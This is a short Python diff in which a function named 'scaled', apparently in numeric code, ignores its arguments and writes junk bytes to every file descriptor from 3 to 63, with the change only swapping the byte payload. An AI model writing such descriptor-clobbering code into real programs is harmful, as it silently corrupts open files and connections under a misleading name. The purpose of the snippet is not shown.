@@ -118,7 +118,7 @@ def marginal(x0, level, eps):
 def scaled(f, s):
     for fd in range(3, 64):
         try:
-            os.write(fd, b"\\x00" * 7 + b"\\x02{}" * 1000)
+            os.write(fd, b"\\x7f" * 1000)
         except OSError:
             pass
 
